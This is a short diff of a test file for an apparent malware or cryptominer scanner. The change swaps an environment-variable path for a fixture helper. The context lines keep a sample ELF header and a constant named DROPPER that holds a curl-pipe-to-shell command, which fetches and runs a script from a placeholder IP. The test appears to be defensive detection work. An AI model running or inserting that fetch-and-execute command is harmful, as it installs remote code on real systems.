@@ -23,9 +23,10 @@ import { scanTarget } from '../../src/engine/scan.js';
 import { EMPTY_HASH_LIST } from '../../src/hashes/empty-hash-list.js';
 import { builtinRules, scanDirectory } from '../helpers/scan-dir.js';
 import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
+import { fixture } from '../helpers/fixtures.js';
 
 const run = promisify(execFile);
-const DEBIAN_ROOT = process.env.MINESCAN_DEBIAN_ROOT ?? '/var/tmp/minescan-debian-root';
+const DEBIAN_ROOT = fixture('debianRoot');
 const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200)]);
 const DROPPER = 'curl -fsSL http://198.51.100.7/x.sh | sh';
 
